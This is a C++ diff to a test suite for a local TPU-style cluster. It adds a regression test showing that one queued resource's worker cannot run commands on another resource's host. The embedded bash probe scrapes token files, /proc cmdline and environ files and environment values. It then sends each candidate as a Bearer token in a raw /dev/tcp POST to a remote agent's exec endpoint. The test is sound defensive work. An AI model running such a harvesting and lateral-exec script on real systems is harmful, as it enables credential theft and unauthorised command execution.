@@ -88,17 +88,32 @@ std::vector<Start> ReadStarts(const std::string& path) {
 // "attempt slice pid time" to `starts`.
 class LocalCluster {
  public:
-  explicit LocalCluster(const std::string& dir) : dir_(dir) {
+  explicit LocalCluster(const std::string& dir,
+                        std::vector<std::string> extra = {})
+      : dir_(dir) {
     const std::string data = dir + "/controller";
     const std::string out_path = dir + "/controller.out";
+    std::vector<std::string> args = {MULTISLICE_BINARY,
+                                     "controller",
+                                     "--port",
+                                     "0",
+                                     "--data-dir",
+                                     data,
+                                     "--heartbeat-timeout",
+                                     "1",
+                                     "--local-hosts",
+                                     "3",
+                                     "--local-accelerator-type",
+                                     "cpu-2"};
+    args.insert(args.end(), extra.begin(), extra.end());
+    std::vector<char*> argv;
+    for (std::string& a : args) argv.push_back(a.data());
+    argv.push_back(nullptr);
     pid_ = ::fork();
     if (pid_ == 0) {
       FILE* out = std::freopen(out_path.c_str(), "w", stdout);
       (void)out;
-      ::execl(MULTISLICE_BINARY, MULTISLICE_BINARY, "controller", "--port", "0",
-              "--data-dir", data.c_str(), "--heartbeat-timeout", "1",
-              "--local-hosts", "3", "--local-accelerator-type", "cpu-2",
-              static_cast<char*>(nullptr));
+      ::execv(MULTISLICE_BINARY, argv.data());
       ::_exit(127);
     }
     std::string url;
@@ -157,6 +172,36 @@ class LocalCluster {
     return client_->Call("GET", std::string(kParent) + "/queuedResources/job")
         ->body;
   }
+  // Creates queued resource `id` of `slices` cpu-2 slices running `script`.
+  bool Create(const std::string& id, int slices, const std::string& script) {
+    json node_spec = {{"node",
+                       {{"accelerator_type", "cpu-2"},
+                        {"metadata", {{"startup-script", script}}}}}};
+    if (slices > 1) {
+      node_spec["multi_node_params"] = {{"node_count", slices}};
+    } else {
+      node_spec["node_id"] = id + "-0";
+    }
+    json body = {{"tpu", {{"node_spec", {node_spec}}}}};
+    auto r = client_->Call(
+        "POST",
+        std::string(kParent) + "/queuedResources?queued_resource_id=" + id,
+        &body);
+    return r.ok() && r->status == 200;
+  }
+  std::string StateOf(const std::string& id) {
+    Result<HttpResponse> r =
+        client_->Call("GET", std::string(kParent) + "/queuedResources/" + id);
+    if (!r.ok() || r->status != 200) return std::string();
+    return r->body["state"].value("state", "");
+  }
+  json Workers(const std::string& id) {
+    Result<HttpResponse> r =
+        client_->Call("GET", "/internal/v1/queuedResources/" + id + "/workers");
+    return r.ok() ? r->body.value("workers", json::array()) : json::array();
+  }
+  std::string data_dir() const { return dir_ + "/controller"; }
+
   bool CreateJob() {
     const std::string script =
         "#!/bin/bash\n"
@@ -344,6 +389,108 @@ TEST(RepairTest, FrozenAgentNeverRunsTwoAttemptsOfASlice) {
       EXPECT_NE(w.value("state", ""), "RUNNING") << w.dump();
     }
   }
+}
+
+// Issue 12, defect 7: a startup script could read the one shared token (from
+// its guardian's command line, --token-file) and exec as root on another
+// queued resource's host. Now a host's agent accepts only that host's
+// secret, agents hold only a registration token, and with
+// --local-worker-user the workers run as a user who can read neither.
+TEST(RepairTest, AWorkerCannotExecOnAnotherQueuedResourcesHost) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root to run workers as nobody";
+  TempDir dir;
+  ASSERT_TRUE(dir.ok());
+  std::filesystem::permissions(
+      dir.path(),
+      std::filesystem::perms::owner_all | std::filesystem::perms::others_exec);
+  LocalCluster cluster(dir.path(), {"--local-worker-user", "nobody"});
+  ASSERT_TRUE(cluster.ready());
+  ASSERT_TRUE(WaitFor([&] { return cluster.Hosts().size() == 3; },
+                      std::chrono::seconds(15)));
+  ASSERT_TRUE(cluster.Create("b", 1, "#!/bin/bash\nexec sleep 600\n"));
+  ASSERT_TRUE(WaitFor([&] { return cluster.StateOf("b") == "ACTIVE"; },
+                      std::chrono::seconds(15)));
+  const json b = cluster.Workers("b")[0];
+  const std::string b_address = b["agentAddress"];
+  const std::string host = b_address.substr(0, b_address.rfind(':'));
+  const std::string port = b_address.substr(b_address.rfind(':') + 1);
+  const std::string report = dir.path() + "/report";
+  std::filesystem::create_directories(report);
+  std::filesystem::permissions(report, std::filesystem::perms::all);
+  const std::string data = cluster.data_dir();
+  // Everything A's worker can think of: the controller's and the agents'
+  // token files, its guardian's command line (and the files it names),
+  // every process's environment, and its own environment's values.
+  std::string script = R"SH(#!/bin/bash
+out=@REPORT@/attempts
+try() {
+  body='{"command":"id > @REPORT@/pwned"}'
+  exec 3<>/dev/tcp/@HOST@/@PORT@ || { echo "$2 connect-failed" >> $out; return; }
+  printf 'POST /agent/v1/exec HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' "$1" "${#body}" "$body" >&3
+  echo "$2 $(head -1 <&3 | tr -d '\r')" >> $out
+  exec 3>&-
+}
+candidates="@DATA@/token @DATA@/agent-token @DATA@/state.db"
+for f in $(tr '\0' ' ' < /proc/$PPID/cmdline); do
+  [ -f "$f" ] && candidates="$candidates $f"
+done
+for f in $candidates /proc/[0-9]*/environ; do
+  if [ -r "$f" ] && t=$(head -c 4096 "$f" 2>/dev/null | tr '\0=' '  '); then
+    echo "read $f ok" >> $out.files
+    for word in $t; do
+      [ ${#word} -ge 16 ] && try "$word" "file:$f"
+    done
+  else
+    echo "read $f denied" >> $out.files
+  fi
+done
+for v in $(env | cut -d= -f2-); do [ ${#v} -ge 16 ] && try "$v" env; done
+echo "uid $(id -u)" >> $out.files
+touch @REPORT@/done
+exec sleep 600
+)SH";
+  for (const auto& [key, value] :
+       std::vector<std::pair<std::string, std::string>>{{"@REPORT@", report},
+                                                        {"@HOST@", host},
+                                                        {"@PORT@", port},
+                                                        {"@DATA@", data}}) {
+    for (size_t at; (at = script.find(key)) != std::string::npos;) {
+      script.replace(at, key.size(), value);
+    }
+  }
+  ASSERT_TRUE(cluster.Create("a", 1, script));
+  ASSERT_TRUE(WaitFor([&] { return std::filesystem::exists(report + "/done"); },
+                      std::chrono::seconds(60)));
+  std::ifstream files(report + "/attempts.files");
+  std::string line, all_files;
+  while (std::getline(files, line)) all_files += line + "\n";
+  EXPECT_NE(all_files.find("read " + data + "/token denied"), std::string::npos)
+      << all_files;
+  EXPECT_NE(all_files.find("read " + data + "/agent-token denied"),
+            std::string::npos)
+      << all_files;
+  EXPECT_EQ(all_files.find("uid 0\n"), std::string::npos) << "runs as root";
+  std::ifstream attempts(report + "/attempts");
+  int tried = 0, refused = 0;
+  while (std::getline(attempts, line)) {
+    ++tried;
+    refused += line.find(" HTTP/1.1 401") != std::string::npos;
+    EXPECT_EQ(line.find(" HTTP/1.1 2"), std::string::npos) << line;
+  }
+  std::printf(
+      "%d exec attempts on the other queued resource's host with "
+      "what its worker could read, %d refused with 401\n",
+      tried, refused);
+  EXPECT_GT(tried, 0);
+  EXPECT_FALSE(std::filesystem::exists(report + "/pwned"));
+  // The probe itself works: with that host's secret, exec is accepted.
+  ApiClient agent = *ApiClient::Create("http://" + b_address,
+                                       b["agentToken"].get<std::string>(),
+                                       std::chrono::seconds(5));
+  json body = {{"command", "true"}};
+  Result<HttpResponse> exec = agent.Call("POST", "/agent/v1/exec", &body);
+  ASSERT_TRUE(exec.ok());
+  EXPECT_EQ(exec->status, 201);
 }
 
 }  // namespace
